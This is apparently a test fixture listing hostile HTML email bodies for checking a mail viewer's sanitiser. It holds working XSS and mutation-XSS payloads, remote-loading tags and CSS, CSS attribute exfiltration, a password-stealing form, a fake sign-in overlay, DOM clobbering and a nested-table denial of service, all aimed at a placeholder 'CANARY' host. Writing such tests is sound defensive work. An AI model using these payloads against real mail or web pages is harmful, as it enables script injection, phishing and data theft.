/**
 * Mail that tries to run scripts, to load content, to leave its frame or to look like the dashboard. `CANARY` is
 * replaced by the address of a server that must never get a request; a script that runs would also contact it.
 */
const beacon = "fetch('CANARY/ran');new Image().src='CANARY/ran';document.title='ran';parent.postMessage('ran','*')";

export const hostileMails: Record<string, string> = {
  script: `<script>${beacon}</script>`,
  "script from elsewhere": '<script src="CANARY/x.js"></script>',
  "script in a sheet of SVG": `<svg xmlns="http://www.w3.org/2000/svg"><script>${beacon}</script><use href="CANARY/x.svg#a"/><image href="CANARY/x.png"/></svg>`,
  "handlers of many elements": `<img src=x onerror="${beacon}"><body onload="${beacon}"><svg onload="${beacon}"><details open ontoggle="${beacon}">x</details><input autofocus onfocus="${beacon}"><video><source onerror="${beacon}"></video><marquee onstart="${beacon}">x</marquee>`,
  "an animation that ends in a handler": `<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationend="${beacon}">x</p>`,
  "a script behind mutation": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${beacon}&gt;">`,
  "a script behind noscript": `<noscript><p title="</noscript><img src=x onerror=${beacon}>">`,
  "a script behind a comment": `<!--><img src=x onerror="${beacon}">-->`,
  "a script in a template": `<template><img src=x onerror="${beacon}"></template><select><template><img src=x onerror="${beacon}"></template></select>`,
  "a javascript link, clicked": `<a href="javascript:${beacon}">click</a><a href="&#x6a;avascript:${beacon}">click</a>`,
  "a data link": `<a href="data:text/html,<script>${beacon}</script>">click</a>`,
  "a frame": `<iframe src="CANARY/frame"></iframe><iframe srcdoc="<script>${beacon}</script>"></iframe><object data="CANARY/o"></object><embed src="CANARY/e"><frameset><frame src="CANARY/f"></frameset>`,
  "meta refresh": '<meta http-equiv="refresh" content="0;url=CANARY/refresh">',
  "a new base and policy":
    '<base href="CANARY/"><meta http-equiv="Content-Security-Policy" content="img-src *"><img src="relative.png">',
  "a form that sends itself": `<form action="CANARY/form" method="post" id="f"><input name="password" type="password" autofocus><button formaction="CANARY/button">Sign in</button><input type="image" src="CANARY/image"></form><script>document.forms[0].submit()</script>`,
  "pictures of many kinds":
    '<img src="CANARY/a.png"><img srcset="CANARY/b.png 1x, CANARY/c.png 2x"><picture><source srcset="CANARY/d.png"><img></picture><table background="CANARY/e.png"><tr><td background="CANARY/f.png">x</table><body background="CANARY/g.png"><input type=image src="CANARY/h.png"><video poster="CANARY/i.png"></video><audio src="CANARY/j.mp3" autoplay></audio><video src="CANARY/k.mp4" autoplay></video>',
  "CSS that loads":
    '<style>@import "CANARY/a.css"; @import url(CANARY/b.css); @font-face{font-family:x;src:url(CANARY/c.woff2)} body{background:url("CANARY/d.png");font-family:x;cursor:url(CANARY/e.cur),auto} li{list-style-image:url(CANARY/f.png)} p::before{content:url(CANARY/g.png)} div{background-image:image-set("CANARY/h.png" 1x)} i{mask:url(CANARY/i.svg#m);filter:url(CANARY/j.svg#f)}</style><p style="background:u\\72l(CANARY/k.png)">x</p><ul><li>x</ul><div>x</div><i>x</i>',
  "CSS that reads attributes": `<style>a[href*="t"]{background:url(CANARY/t)} input[value^="a"]{background:url(CANARY/a)}</style><a href="https://example.com/token">x</a>`,
  "hints to the browser":
    '<link rel="stylesheet" href="CANARY/a.css"><link rel="preload" as="image" href="CANARY/b.png"><link rel="prefetch" href="CANARY/c"><link rel="preconnect" href="CANARY/"><link rel="dns-prefetch" href="//canary.invalid"><link rel="icon" href="CANARY/d.ico"><link rel="prerender" href="CANARY/e">',
  "a page over the page":
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><h1>Sign in again</h1><a href="CANARY/phish" target="_top">Sign in</a></div>',
  "names that shadow the document":
    '<img name="cookie"><form name="body"><input name="firstChild"></form><a id="defaultView"></a>',
  "an element that is never closed": `<textarea><img src=x onerror="${beacon}"><title><style><script>${beacon}`,
  "nested tables, 4 MB": "<table><tr><td>".repeat(270_000),
};
